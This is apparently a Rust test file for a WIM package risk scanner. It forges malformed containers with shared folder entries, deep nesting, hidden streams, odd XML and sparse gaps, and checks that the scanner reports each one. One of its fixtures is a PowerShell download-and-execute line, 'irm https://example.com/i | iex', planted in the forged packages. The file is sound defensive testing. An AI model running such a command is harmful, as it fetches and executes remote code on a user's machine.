//! What `inspect --risk` reads of a container that nobody should have made: all of it, or it says that it did not.

use std::io::{Cursor, Seek, SeekFrom, Write};

use ppkgc::read::{SurveyedPackage, survey};
use ppkgc::risk::judge;

use super::forge::{FOLDER, Forge, Item, Resource, dentry, entry, units};
use super::{at, package};

const SCRIPT: &[u8] = b"powershell irm https://example.com/i | iex";
/// The attribute of links and junctions.
const LINK: u32 = 0x400;

fn surveyed(forge: &Forge) -> SurveyedPackage {
    survey(Cursor::new(forge.build().bytes)).unwrap()
}

/// Fails unless a message names what was not followed.
#[track_caller]
fn assert_reported(package: &SurveyedPackage, problem: &str) {
    assert!(!package.complete, "{problem}");
    assert!(package.problems.iter().any(|told| told.contains(problem)), "{problem}: {:?}", package.problems);
    assert!(!judge(package, false).complete, "{problem}");
}

#[test]
fn a_sound_package_is_read_completely() {
    let package = surveyed(&package());
    assert!(package.complete && package.problems.is_empty(), "{:?}", package.problems);
}

#[test]
fn folders_that_share_their_entries_are_reported() {
    let decoy = Item::folder("AAA", vec![Item::folder("Decoy", Vec::new())]);
    let script = Resource::raw(SCRIPT);
    let real = Item::folder("Multivariant", vec![Item::file("run.ps1", &script)]);
    let mut forge = Forge::new(vec![decoy, real], vec![script]);
    let children = forge.metadata[forge.dentries[2] + dentry::CHILDREN..][..8].to_vec();
    forge.put_dentry(1, dentry::CHILDREN, &children);
    assert_reported(&surveyed(&forge), "entries of the folder \"Multivariant/\" are also those of another folder");

    let mut endless = package();
    let root = endless.metadata[endless.dentries[0] + dentry::CHILDREN..][..8].to_vec();
    endless.put_dentry(at::VARIANT, dentry::CHILDREN, &root);
    assert_reported(&surveyed(&endless), "are also those of another folder");
}

#[test]
fn what_is_too_deep_or_too_much_is_reported() {
    let script = Resource::raw(SCRIPT);
    let deep = (0..140).fold(Item::file("run.ps1", &script), |inside, _| Item::folder("d", vec![inside]));
    assert_reported(&surveyed(&Forge::new(vec![deep], vec![script.clone()])), "is below 128 others, and is not read");

    let files = (0..15_000).map(|number| Item::file(&number.to_string(), &script)).collect();
    let chain = (0..20).fold(files, |inside, _| vec![Item::folder(&"x".repeat(255), inside)]);
    let package = surveyed(&Forge::new(chain, vec![script]));
    let problem = "bytes of paths, the limit is 67108864; the rest of it is not read";
    assert!(!package.complete && package.problems[0].contains(problem), "{:?}", package.problems[0]);
    assert!(package.problems.iter().all(|problem| problem.len() < 1_000));
}

#[test]
fn many_problems_are_reported_in_few_lines() {
    let folders = (0..1_000).map(|number| Item::folder(&number.to_string(), Vec::new())).collect();
    let mut forge = Forge::new(folders, Vec::new());
    (1..=1_000).for_each(|number| forge.put_dentry(number, dentry::CHILDREN, &[0xff; 8]));
    let package = surveyed(&forge);
    assert_reported(&package, "900 more entries of folders could not be followed");
    assert_eq!(package.problems.len(), 101);
}

#[test]
fn entries_below_files_and_links_are_read_and_reported() {
    let script = Resource::raw(SCRIPT);
    for attributes in [0x20, FOLDER | LINK] {
        let inside = vec![Item::file("run.ps1", &script)];
        let item = Item { attributes, ..Item::folder("odd", inside) };
        let package = surveyed(&Forge::new(vec![item], vec![script.clone()]));
        assert_reported(&package, "\"odd\" has entries like a folder");
        assert!(package.images[0].files.iter().any(|file| file.path == "odd/run.ps1"), "{attributes:#x}");
    }
}

#[test]
fn an_invalid_root_is_reported() {
    let mut file = package();
    file.put_dentry(0, dentry::ATTRIBUTES, &[0x20]);
    assert_reported(&surveyed(&file), "the root is not a folder without name");
    let mut nothing = package();
    nothing.put_dentry(0, dentry::LENGTH, &[0; 8]);
    assert_reported(&surveyed(&nothing), "the image has no root folder");
}

#[test]
fn streams_and_undocumented_items_are_found_at_folders_and_at_the_root() {
    let script = Resource::raw(SCRIPT);
    let with_data = |name: &str| Item {
        streams: vec![(units("run.ps1"), script.sha1)],
        more: [SCRIPT, &[0; 6]].concat(),
        ..Item::folder(name, vec![Item::folder("Multivariant", Vec::new())])
    };
    for (root, path) in [(with_data(""), ""), (Item::folder("", vec![with_data("d")]), "d")] {
        let package = surveyed(&Forge::of_root(&root, vec![script.clone()]));
        assert!(package.complete && package.orphans.is_empty());
        let image = &package.images[0];
        assert_eq!(image.files.len(), 1, "a folder is no file");
        assert_eq!((image.files[0].path.as_str(), image.files[0].stream.as_deref()), (path, Some("run.ps1")));
        assert_eq!(image.items.len(), 1);
        assert!(image.items[0].0 == path && image.items[0].1.starts_with(SCRIPT));
        let findings = judge(&package, false).findings;
        let found = findings.iter().find(|finding| finding.class.name == "orphan-content").unwrap();
        assert!(found.evidence[0].text.contains("irm https"), "{:?}", found.evidence);
    }
}

#[test]
fn contents_that_share_bytes_are_refused() {
    let mut wim = package().build();
    let size = wim.bytes[wim.table + entry::SIZE + entry::OFFSET..][..8].to_vec();
    wim.put_entry(5, entry::OFFSET, &size);
    let error = survey(Cursor::new(wim.bytes)).unwrap_err().to_string();
    assert!(error.contains("expected bytes of its own"), "{error}");
}

/// The readers of other systems may find other contents than those that are judged.
#[test]
fn what_every_other_command_refuses_is_never_judged_complete() {
    let (good, evil) = (Resource::raw(b"good"), Resource::raw(b"evil"));
    let files = || [Item::file("a.txt", &good), Item::file("b.txt", &evil)];
    let with = |items: [Item; 2]| {
        let items = items.into_iter().chain([Item::folder("Multivariant", Vec::new())]).collect();
        Forge::new(items, vec![good.clone(), evil.clone()])
    };
    assert!(surveyed(&with(files())).complete);
    let linked = with(files().map(|file| Item { link_group: 5, ..file }));
    assert_reported(&surveyed(&linked), "expected the content of the other hard links");
    let [a, b] = files();
    let short = with([Item { short_name: units("B.TXT"), ..a }, b]);
    assert_reported(&surveyed(&short), "expected a short name that no other file has");
    let [a, b] = files();
    let same = with([Item { name: units("e\u{301}"), ..a }, Item { name: units("\u{e9}"), ..b }]);
    assert_reported(&surveyed(&same), "expected a valid name in a Windows folder");
    let mut changed = package().build();
    changed.add_integrity_table(512);
    let last = changed.bytes.len() - 1;
    changed.bytes[last] ^= 1;
    assert_reported(&survey(Cursor::new(changed.bytes)).unwrap(), "do not match the integrity table");
}

#[test]
fn parts_of_the_xml_that_no_package_has_are_findings() {
    let mut forge = package();
    forge.xml("<WIM><IMAGE INDEX=\"1\"><NAME>forged</NAME><PAYLOAD>TVqQ</PAYLOAD></IMAGE></WIM>");
    let findings = judge(&surveyed(&forge), false).findings;
    let found = findings.iter().find(|finding| finding.subject == "XML of the container").unwrap();
    assert!(found.class.name == "odd-xml" && found.evidence[0].text.contains("TVqQ"), "{:?}", found.evidence);
}

#[test]
fn two_resources_under_one_hash_are_reported() {
    let mut forge = package();
    let sha1 = forge.contents[0].sha1;
    forge.contents.push(Resource { sha1, ..Resource::raw(b"another") });
    assert_reported(&surveyed(&forge), "1 resources have the hash of another one");
}

/// A sparse file of 400 MB whose contents are two megabytes apart.
#[test]
fn gaps_cannot_fill_the_memory_and_hide_nothing_behind_zeros() {
    const COUNT: usize = 200;
    const APART: u64 = 2 << 20;
    let contents: Vec<Resource> = (0..COUNT).map(|number| Resource::raw(&[number as u8])).collect();
    let forge = Forge::new(vec![Item::folder("Multivariant", Vec::new())], contents);
    let mut wim = forge.build();
    let start = wim.bytes.len() as u64;
    for number in 0..COUNT {
        wim.put_entry(number + 1, entry::OFFSET, &(start + APART * number as u64).to_le_bytes());
    }
    let mut file = tempfile::tempfile().unwrap();
    file.write_all(&wim.bytes).unwrap();
    for number in 0..COUNT {
        file.seek(SeekFrom::Start(start + APART * number as u64)).unwrap();
        file.write_all(&[number as u8]).unwrap();
    }
    let package = survey(file).unwrap();
    let kept: usize = package.gaps.iter().map(|gap| gap.bytes.len()).sum();
    assert!(kept <= 64 << 20, "{kept}");
    let between = package.gaps.iter().filter(|gap| gap.size == APART - 1).count();
    assert_eq!(between, COUNT - 1);
    let report = judge(&package, false);
    let told =
        report.findings.iter().filter(|finding| finding.evidence[0].text.contains(" of 2097151 bytes are read)"));
    // The bytes after the end of the container get one finding.
    assert!(told.count() > 0, "what was read in part is never called empty");
}
